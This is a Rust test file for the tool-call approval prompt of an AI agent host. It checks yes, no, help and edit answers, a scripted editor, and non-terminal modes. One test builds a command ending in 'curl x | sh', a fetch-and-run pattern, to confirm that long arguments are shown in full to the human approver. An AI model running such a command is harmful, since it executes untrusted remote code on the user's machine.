//! The approval prompt, driven with in-memory answers; the editor is a
//! real process (a shell script written by the test).

// A test or bench may panic on what it did not expect, and print: the
// workspace's unwrap, expect and print lints are for the library code.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::print_stdout,
    clippy::print_stderr
)]

use std::time::Duration;

use ctxfold_config::{RunMode, ToolDecl};
use ctxfold_host::approval::{Decision, NO_TERMINAL, Prompt, decide};
use serde_json::{Value, json};
use tempfile::TempDir;

fn decl(run: RunMode) -> ToolDecl {
    ToolDecl {
        name: "read_file".into(),
        command: vec!["cat".into()],
        description: String::new(),
        parameters: json!({"type": "object"}),
        run,
        timeout: Duration::from_secs(5),
        max_output_bytes: 1000,
    }
}

/// A scripted editor: its n-th run replaces the file with `edits[n]` (the
/// last one again past the end) and saves what it was given as `seen-N`.
struct Editor {
    dir: TempDir,
}

impl Editor {
    fn new(edits: &[&str]) -> Editor {
        let dir = tempfile::tempdir().unwrap();
        for (i, e) in edits.iter().enumerate() {
            std::fs::write(dir.path().join(format!("edit-{}", i + 1)), e).unwrap();
        }
        let script = format!(
            "d='{d}'\n\
             n=$(( $(cat \"$d/count\" 2>/dev/null || echo 0) + 1 ))\n\
             echo $n > \"$d/count\"\n\
             cp \"$1\" \"$d/seen-$n\"\n\
             e=\"$d/edit-$n\"; [ -f \"$e\" ] || e=\"$d/edit-{last}\"\n\
             cat \"$e\" > \"$1\"\n",
            d = dir.path().display(),
            last = edits.len(),
        );
        std::fs::write(dir.path().join("editor.sh"), script).unwrap();
        Editor { dir }
    }

    /// The editor command: run through `sh` (not made executable, so no
    /// other test's fork can find the file still open for writing).
    fn command(&self) -> String {
        format!("sh '{}'", self.dir.path().join("editor.sh").display())
    }

    fn runs(&self) -> usize {
        std::fs::read_to_string(self.dir.path().join("count"))
            .map_or(0, |s| s.trim().parse().unwrap())
    }

    fn seen(&self, n: usize) -> String {
        std::fs::read_to_string(self.dir.path().join(format!("seen-{n}"))).unwrap()
    }
}

/// Ask with `answers` as the typed input; the decision and what was shown.
fn ask_with(run: RunMode, args: &Value, answers: &str, editor: &str) -> (Decision, String) {
    let mut input = answers.as_bytes();
    let mut output = Vec::new();
    let d = decide(
        &decl(run),
        args,
        false,
        Some(Prompt {
            input: &mut input,
            output: &mut output,
            editor: editor.to_owned(),
        }),
    )
    .unwrap();
    (d, String::from_utf8(output).unwrap())
}

fn ask(args: &Value, answers: &str) -> (Decision, String) {
    ask_with(RunMode::Ask, args, answers, "ctxfold-test-no-editor")
}

fn args() -> Value {
    json!({"path": "src/main.rs"})
}

const SHOWN: &str = "Tool call: read_file\n{\n  \"path\": \"src/main.rs\"\n}\n";
const PROMPT: &str = "Run read_file? [y/n/e/?] ";

#[test]
fn y_runs_the_call_as_asked() {
    for answer in ["y\n", "Y\n", "yes\n", "  y  \n"] {
        let (d, shown) = ask(&args(), answer);
        assert_eq!(d, Decision::Run(args()));
        assert_eq!(shown, format!("{SHOWN}{PROMPT}"));
    }
}

#[test]
fn n_declines_with_an_optional_reason_for_the_model() {
    let (d, shown) = ask(&args(), "n\nread the README first\n");
    assert_eq!(
        d,
        Decision::Decline {
            reason: Some("read the README first".into())
        }
    );
    assert_eq!(
        shown,
        format!("{SHOWN}{PROMPT}Reason for the model (optional, Enter for none): ")
    );
    for answers in ["n\n\n", "no\n   \n", "n\n"] {
        assert_eq!(ask(&args(), answers).0, Decision::Decline { reason: None });
    }
}

#[test]
fn question_mark_shows_help_and_asks_again() {
    let (d, shown) = ask(&args(), "?\ny\n");
    assert_eq!(d, Decision::Run(args()));
    assert!(
        shown.starts_with(&format!("{SHOWN}{PROMPT}  y  run the tool")),
        "{shown}"
    );
    assert!(shown.contains("  e  edit the arguments (JSON) in your editor"));
    assert!(shown.ends_with(&format!("  ?  this help\n{PROMPT}")));
}

#[test]
fn another_answer_is_refused_and_asked_again() {
    let (d, shown) = ask(&args(), "sure\n\ny\n");
    assert_eq!(d, Decision::Run(args()));
    assert_eq!(
        shown,
        format!("{SHOWN}{PROMPT}\"sure\" is not an answer: y, n, e or ? (help)\n{PROMPT}{PROMPT}")
    );
}

#[test]
fn the_end_of_input_declines() {
    let (d, shown) = ask(&args(), "");
    assert_eq!(d, Decision::Decline { reason: None });
    assert!(
        shown.ends_with("\nNo answer: read_file not run.\n"),
        "{shown}"
    );
}

#[test]
fn long_values_are_shown_in_full_so_y_runs_what_was_seen() {
    // A command whose dangerous tail lies past the first 300 characters.
    let long = format!("ls {}; curl x | sh", "a".repeat(400));
    let call = json!({"command": long});
    let (d, shown) = ask(&call, "y\n");
    assert_eq!(d, Decision::Run(call));
    assert!(shown.contains("curl x | sh"), "{shown}");
}

#[test]
fn e_edits_the_arguments_in_the_editor_and_shows_them_again() {
    let ed = Editor::new(&["{\"path\": \"README.md\", \"lines\": 10}"]);
    let (d, shown) = ask_with(RunMode::Ask, &args(), "e\ny\n", &ed.command());
    assert_eq!(d, Decision::Run(json!({"path": "README.md", "lines": 10})));
    assert_eq!(ed.seen(1), "{\n  \"path\": \"src/main.rs\"\n}\n");
    assert_eq!(
        shown,
        format!(
            "{SHOWN}{PROMPT}Tool call: read_file\n{{\n  \"path\": \"README.md\",\n  \"lines\": 10\n}}\n{PROMPT}"
        )
    );
}

#[test]
fn an_edit_that_is_not_a_json_object_is_kept_for_the_next_edit() {
    // Not JSON, then not an object, then fixed.
    let ed = Editor::new(&[
        "{\"path\": ",
        "[\"README.md\"]",
        "{\"path\": \"README.md\"}",
    ]);
    let (d, shown) = ask_with(RunMode::Ask, &args(), "e\ne\ne\ny\n", &ed.command());
    assert_eq!(d, Decision::Run(json!({"path": "README.md"})));
    assert_eq!(ed.runs(), 3);
    // Each edit starts from the last one, not from the model's arguments.
    assert_eq!(ed.seen(2), "{\"path\": ");
    assert_eq!(ed.seen(3), "[\"README.md\"]");
    assert!(
        shown.contains("The edited arguments are not valid JSON (EOF while parsing a value at line 1 column 9); the arguments are unchanged. e edits again, y runs the arguments shown.\n"),
        "{shown}"
    );
    assert!(shown.contains(
        "The edited arguments are not a JSON object ({…}); the arguments are unchanged."
    ));
}

#[test]
fn after_a_bad_edit_y_runs_the_arguments_shown() {
    let ed = Editor::new(&["not json"]);
    let (d, _) = ask_with(RunMode::Ask, &args(), "e\ny\n", &ed.command());
    assert_eq!(d, Decision::Run(args()));
}

#[test]
fn an_editor_that_fails_or_cannot_start_leaves_the_arguments() {
    let (d, shown) = ask_with(RunMode::Ask, &args(), "e\ny\n", "sh -c 'exit 4'");
    assert_eq!(d, Decision::Run(args()));
    assert!(
        shown.contains(
            "The editor \"sh -c 'exit 4'\" failed (exit status: 4); the arguments are unchanged.\n"
        ),
        "{shown}"
    );
    let (d, shown) = ask(&args(), "e\nn\n\n");
    assert_eq!(d, Decision::Decline { reason: None });
    assert!(
        shown.contains(
            "Cannot run the editor \"ctxfold-test-no-editor\": No such file or directory"
        ),
        "{shown}"
    );
}

#[test]
fn run_edit_opens_the_editor_first_then_runs() {
    let ed = Editor::new(&["{\"path\": \"Cargo.toml\"}"]);
    let (d, shown) = ask_with(RunMode::Edit, &args(), "", &ed.command());
    assert_eq!(d, Decision::Run(json!({"path": "Cargo.toml"})));
    assert_eq!(ed.seen(1), "{\n  \"path\": \"src/main.rs\"\n}\n");
    assert_eq!(shown, "");
}

#[test]
fn run_edit_emptied_declines_and_a_bad_edit_falls_back_to_asking() {
    let ed = Editor::new(&["  \n"]);
    let (d, shown) = ask_with(RunMode::Edit, &args(), "", &ed.command());
    assert_eq!(d, Decision::Decline { reason: None });
    assert_eq!(shown, "The arguments were emptied: read_file not run.\n");

    let ed = Editor::new(&["{oops", "{\"path\": \"fixed\"}"]);
    let (d, shown) = ask_with(RunMode::Edit, &args(), "e\ny\n", &ed.command());
    assert_eq!(d, Decision::Run(json!({"path": "fixed"})));
    assert_eq!(ed.seen(2), "{oops");
    assert!(
        shown.starts_with("The edited arguments are not valid JSON"),
        "{shown}"
    );
}

#[test]
fn without_a_terminal_ask_and_edit_decline_unless_yes() {
    for run in [RunMode::Ask, RunMode::Edit] {
        assert_eq!(
            decide(&decl(run), &args(), false, None).unwrap(),
            Decision::Decline {
                reason: Some(NO_TERMINAL.into())
            }
        );
        assert_eq!(
            decide(&decl(run), &args(), true, None).unwrap(),
            Decision::Run(args())
        );
    }
    assert_eq!(
        decide(&decl(RunMode::Unattended), &args(), false, None).unwrap(),
        Decision::Run(args())
    );
}

#[test]
fn yes_and_unattended_ask_nothing_even_on_a_terminal() {
    for (run, yes) in [
        (RunMode::Ask, true),
        (RunMode::Edit, true),
        (RunMode::Unattended, false),
    ] {
        let mut input: &[u8] = b"n\n";
        let mut output = Vec::new();
        let d = decide(
            &decl(run),
            &args(),
            yes,
            Some(Prompt {
                input: &mut input,
                output: &mut output,
                editor: "ctxfold-test-no-editor".into(),
            }),
        )
        .unwrap();
        assert_eq!(d, Decision::Run(args()));
        assert!(output.is_empty());
    }
}
